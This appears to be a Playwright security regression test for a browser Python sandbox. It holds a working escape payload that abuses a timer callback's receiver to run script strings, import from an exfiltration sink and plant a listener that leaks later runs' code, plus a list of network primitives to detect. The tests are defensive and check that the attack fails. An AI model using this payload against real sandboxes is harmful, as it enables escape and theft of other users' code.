import type { Page } from '@playwright/test';
import type { PythonRunResult } from '../../tools/python/types.ts';
import { expect, test } from '../support/test.ts';
import { evaluateInWorker, installHeartbeat, longestStallMs, startExfiltrationSink, type ExfiltrationSink } from './support.ts';

// The Python sandbox (tools/python/) attacked as issue 8 found it open: code schedules a callback
// whose receiver is the worker's global object, reads the native setTimeout off its prototype
// chain and hands it a string, which ran as script (`import()` reached the network) and planted a
// hook that read the code of later runs. Driven through the harness page in the production build.

const HARNESS = '/e2e/harness/python.html';

/** Python that, from a timer callback, climbs the receiver's prototype chain to every native timer
 * it can find and hands each a string of script: a dynamic import to the sink, and a message
 * listener that sends the sink the code of every later run. */
export function timerReceiverEscape(sinkUrl: string): string {
  const planted = `self.addEventListener('message', (e) => import('${sinkUrl}/later-run?' + encodeURIComponent(JSON.stringify(e.data))))`;
  const script = `import('${sinkUrl}/escaped'); ${planted}`;
  return [
    'import pyodide.webloop',
    'from pyodide.ffi import create_proxy, to_js',
    'Object = to_js({}).constructor',
    `SCRIPT = ${JSON.stringify(script)}`,
    'def climb(this, *args):',
    '    owner = this',
    '    for _ in range(10):',
    '        for name in ("setTimeout", "setInterval"):',
    '            try:',
    '                found = Object.getOwnPropertyDescriptor(owner, name)',
    '                found.value.call(this, SCRIPT, 0)',
    '            except Exception:',
    '                pass',
    '        try:',
    '            owner = Object.getPrototypeOf(owner)',
    '        except Exception:',
    '            return',
    'pyodide.webloop.scheduleCallback(create_proxy(climb, capture_this=True), 5)',
    'print("scheduled")',
  ].join('\n');
}

/** Evaluates `expression` in the Python worker booted and waiting for code (the runner's spare). */
async function inSpareWorker<T>(page: Page, expression: string): Promise<T> {
  expect(await page.evaluate(() => window.pythonHarness.warmUp())).toMatchObject({ ready: true });
  return evaluateInWorker<T>(page, 'python.worker', expression);
}

function run(page: Page, code: string, timeoutMs = 20_000): Promise<PythonRunResult> {
  return page.evaluate(([source, limit]) => window.pythonHarness.run(source, limit), [code, timeoutMs] as const);
}

test.describe('Python sandbox under attack', () => {
  test.describe.configure({ mode: 'serial', timeout: 180_000 });
  let page: Page;
  let sink: ExfiltrationSink;

  test.beforeAll(async ({ browser }) => {
    sink = await startExfiltrationSink();
    page = await browser.newPage();
    await installHeartbeat(page);
    await page.goto(HARNESS);
    await page.waitForFunction(() => 'pythonHarness' in window);
    expect(await page.evaluate(() => window.pythonHarness.warmUp())).toMatchObject({ ready: true });
  });

  test.afterAll(async () => {
    await page.close();
    await sink.close();
  });

  test.afterEach(async () => {
    expect(sink.requests).toEqual([]);
    expect(await longestStallMs(page)).toBeLessThan(1_000);
  });

  test('a timer callback’s receiver reaches no native timer: nothing reaches the network, nothing reads the next run', async () => {
    const planted = await run(page, timerReceiverEscape(sink.url));
    expect(planted).toMatchObject({ stdout: 'scheduled\n', error: null });
    // Time for the callback to fire and for anything it started to arrive.
    await page.waitForTimeout(1_000);
    const secret = await run(page, 'print("the next run, which nobody else may read")');
    expect(secret).toMatchObject({ stdout: 'the next run, which nobody else may read\n', error: null });
    await page.waitForTimeout(1_000);
  });

  test('an audit hook one run plants does not see the next run’s code', async () => {
    const planted = await run(page, 'import sys\nsys.addaudithook(lambda event, args: print("LEAK", event) if event == "exec" else None)\nprint("hooked")');
    expect(planted.stdout).toContain('hooked');
    const next = await run(page, 'print("private")');
    expect(next).toMatchObject({ stdout: 'private\n', error: null });
  });

  test('layer: no native timer anywhere on the worker’s prototype chain, only the function-only ones', async () => {
    const found = await inSpareWorker<string[]>(
      page,
      `(() => {
        const names = ['setTimeout', 'setInterval', 'fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'Worker', 'eval'];
        const owners = [];
        let depth = 0;
        for (let owner = self; owner !== null; owner = Object.getPrototypeOf(owner), depth++) {
          for (const name of names) if (Object.prototype.hasOwnProperty.call(owner, name)) owners.push(depth + ':' + name);
        }
        return owners;
      })()`,
    );
    // Only the replacements, on the global object itself.
    expect(found.sort()).toEqual(['0:setInterval', '0:setTimeout']);
  });

  test('layer: timers refuse strings and call back with no receiver', async () => {
    const outcome = await inSpareWorker<unknown>(
      page,
      `(async () => {
        'use strict';
        let refused = '';
        try {
          self.setTimeout('self.__ran = true', 0);
        } catch (error) {
          refused = String(error);
        }
        const receiver = await new Promise((resolve) => {
          self.setTimeout(function () { resolve(this === undefined ? 'none' : typeof this); }, 0);
        });
        return { refused, receiver, ran: self.__ran === true };
      })()`,
    );
    expect(outcome).toEqual({ refused: 'TypeError: Timers take a function in the Python sandbox', receiver: 'none', ran: false });
  });
});
